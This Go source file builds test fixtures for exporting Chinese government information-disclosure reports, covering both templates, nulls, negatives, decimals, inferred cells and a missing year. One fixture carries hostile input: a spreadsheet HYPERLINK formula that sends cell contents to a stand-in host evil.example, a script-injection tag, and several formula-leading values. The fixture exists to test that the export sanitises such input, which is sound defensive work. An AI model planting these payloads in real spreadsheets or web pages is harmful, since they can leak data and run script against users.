package export

import (
	"fmt"
	"math/rand/v2"

	"gongkai/internal/report"
)

// Fixtures are built in Go so every case is visible in one place: both
// templates, nulls, a negative number, decimals, inferred cells, a report
// with no year, and a hostile report.

const hostileText = `=HYPERLINK("http://evil.example/?x="&A1,"点击")<script>alert(1)</script>`

// small2021 is the golden report: a 2021-template county report with a few
// null cells, a decimal fee amount and two inferred cells.
func small2021() *report.Report {
	r := &report.Report{
		Schema:          report.Schema,
		ID:              "jingxingkuangqu-zhengfu/2023",
		Agency:          "井陉矿区政府",
		AgencyAsWritten: "井陘礦區政府",
		AgencySlug:      "jingxingkuangqu-zhengfu",
		Year:            2023,
		Template:        "2021",
		Source: report.Source{Path: "content/reports/jingxing-2023.txt", SHA256: "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
			Format: "text", Encoding: "gb18030", Script: "traditional", URL: "http://www.jxkq.gov.cn/2023/report.html"},
		Period: &report.Period{From: "2023-01-01", To: "2023-12-31"},
		Sections: []report.Section{
			{Number: 1, Title: "一、总体情况", Text: "2023年，共受理政府信息公开申请70件。"},
			{Number: 5, Title: "五、存在的主要问题及改进情况", Text: "公开内容不够全面。"},
		},
		Tables: report.CellsOf(map[string]float64{
			"active.rules.issued": 0, "active.rules.repealed": 0, "active.rules.in_force": 3,
			"active.normative_docs.issued": 12, "active.normative_docs.repealed": 2, "active.normative_docs.in_force": 41,
			"active.licensing.decisions": 1926, "active.penalties.decisions": 310,
			// enforcement left blank: null
			"active.fees.amount":   12.35,
			"requests.new.natural": 64, "requests.new.commercial": 0, "requests.new.research": 0,
			"requests.new.social": 2, "requests.new.legal": 0, "requests.new.other": 4, "requests.new.total": 70,
			"requests.granted.natural": 40, "requests.granted.total": 44,
			"requests.total.total": 70, "requests.carried_forward.total": 0, "requests.carried_over.total": 0,
			"review.review.upheld": 1, "review.review.corrected": 0, "review.review.other": 0, "review.review.pending": 0, "review.review.total": 1,
		}),
		Derived:  report.CellsOf(map[string]float64{"requests.outcomes.total": 70, "requests.denied.total": 0}),
		Inferred: []string{"requests.new.natural", "requests.new.total"},
		Checks: []report.Check{
			{ID: "structure.sections", Status: report.Warn, Message: "缺少第二、三、四、六部分", English: "parts 2, 3, 4, 6 missing"},
			{ID: "requests.balance", Status: report.Pass, Message: "收支平衡"},
			{ID: "structure.inferred", Status: report.Warn, Message: "2个单元格由展平文本推断：requests.new.natural requests.new.total",
				Cells: []string{"requests.new.natural", "requests.new.total"}},
		},
		Badge: report.Warn,
	}
	return r
}

// earlier2019 is the same agency's 2020 report on the 2019 template, with a
// negative 本年增/减 and a decimal procurement amount.
func earlier2019() *report.Report {
	return &report.Report{
		Schema: report.Schema, ID: "jingxingkuangqu-zhengfu/2020", Agency: "井陉矿区人民政府", AgencyAsWritten: "井陉矿区人民政府",
		AgencySlug: "jingxingkuangqu-zhengfu", Year: 2020, Template: "2019",
		Source: report.Source{Path: "content/reports/jingxing-2020.md", Format: "markdown", Encoding: "utf-8", Script: "simplified"},
		Period: &report.Period{From: "2020-01-01", To: "2020-12-31"},
		Tables: report.CellsOf(map[string]float64{
			"active.rules.made": 1, "active.rules.published": 1, "active.rules.total_published": 9,
			"active.licensing.prev_items": 120, "active.licensing.change": -15, "active.licensing.decisions": 800,
			"active.fees.prev_items": 4, "active.fees.change": -1,
			"active.procurement.projects": 3, "active.procurement.amount": 1234.5,
			"requests.new.natural": 10, "requests.new.total": 10,
			"requests.other.natural": 1, "requests.other.total": 1,
			"requests.total.total": 10,
		}),
		Derived: report.CellsOf(map[string]float64{"requests.other.natural": 1, "requests.other.total": 1}),
		Checks: []report.Check{
			{ID: "requests.row_sum", Status: report.Fail, Message: "-1：第一行合计不符", Cells: []string{"requests.new.natural", "requests.new.total"}},
		},
		Badge: report.Fail,
	}
}

// hostile tries to run formulas in a spreadsheet and script in a page.
func hostile() *report.Report {
	return &report.Report{
		Schema: report.Schema, ID: "hyperlink-script/2022", Agency: hostileText, AgencyAsWritten: "+" + hostileText,
		AgencySlug: "hyperlink-script", Year: 2022, Template: "2021",
		Source:   report.Source{Path: "@content/reports/=evil.html", Format: "html", URL: "-http://evil.example/"},
		Period:   nil,
		Sections: []report.Section{{Number: 6, Title: "六、其他需要报告的事项", Text: hostileText}},
		Tables:   report.CellsOf(map[string]float64{"requests.new.total": -3, "active.fees.amount": -0.5}),
		Checks: []report.Check{
			{ID: "narrative.requests", Status: report.Warn, Message: hostileText, English: "@SUM(1+1)", Cells: []string{"requests.new.total"}},
			{ID: "meta.template", Status: report.Pass, Message: "\t=1+1"},
		},
		Badge: report.Warn,
	}
}

// noYear is a report whose year was not found: year 0 is written as null.
func noYear() *report.Report {
	return &report.Report{
		Schema: report.Schema, ID: "anon-ju/0", Agency: "某局", AgencyAsWritten: "某局", AgencySlug: "anon-ju", Template: "2019",
		Source: report.Source{Path: "content/reports/anon.txt"},
		Checks: []report.Check{{ID: "meta.year", Status: report.Fail, Message: "未找到年度"}},
		Badge:  report.Fail,
	}
}

func fixtures() []*report.Report {
	// Deliberately out of order: the export sorts.
	return []*report.Report{hostile(), small2021(), noYear(), earlier2019()}
}

// generated returns n plausible reports across n/5 agencies and five years,
// both templates, with a few nulls, decimals and inferred cells.
func generated(n int) []*report.Report {
	rng := rand.New(rand.NewPCG(1, 2))
	out := make([]*report.Report, 0, n)
	for i := range n {
		year := 2019 + i%5
		t := report.T2021
		if year < 2021 || i%17 == 0 {
			t = report.T2019
		}
		slug := fmt.Sprintf("agency-%05d", i/5)
		r := &report.Report{
			Schema: report.Schema, ID: fmt.Sprintf("%s/%d", slug, year), Agency: fmt.Sprintf("第%d号机关", i/5), AgencyAsWritten: fmt.Sprintf("第%d號機關", i/5),
			AgencySlug: slug, Year: year, Template: t.ID,
			Source:   report.Source{Path: fmt.Sprintf("content/reports/%s-%d.txt", slug, year), SHA256: fmt.Sprintf("%064x", i), Format: "text", Encoding: "utf-8", Script: "simplified"},
			Period:   &report.Period{From: fmt.Sprintf("%d-01-01", year), To: fmt.Sprintf("%d-12-31", year)},
			Sections: []report.Section{{Number: 1, Title: "一、总体情况", Text: "本年度共受理政府信息公开申请若干件，依法按时答复。"}},
			Tables:   report.Cells{}, Derived: report.Cells{}, Badge: report.Pass,
		}
		for _, p := range t.Paths() {
			switch x := rng.IntN(40); {
			case x == 0: // null
			case x == 1:
				r.Tables.Set(p, -float64(1+rng.IntN(20)))
			case x < 20:
				r.Tables.Set(p, 0)
			default:
				r.Tables.Set(p, float64(rng.IntN(500)))
			}
		}
		r.Tables.Set("active.fees.amount", float64(rng.IntN(100000))/100)
		for _, row := range report.DerivedRows {
			for _, c := range row.Columns {
				r.Derived.Set("requests."+row.Key+"."+c.Key, float64(rng.IntN(900)))
			}
		}
		if i%10 == 0 {
			r.Inferred = []string{"requests.new.natural", "requests.new.total"}
		}
		for _, id := range []string{"structure.sections", "structure.tables", "structure.cells", "requests.balance", "requests.row_sum",
			"requests.outcome_sum", "review.row_sum", "meta.year", "meta.template", "narrative.requests", "structure.inferred"} {
			r.Checks = append(r.Checks, report.Check{ID: id, Status: report.Pass, Message: "通过"})
		}
		out = append(out, r)
	}
	return out
}
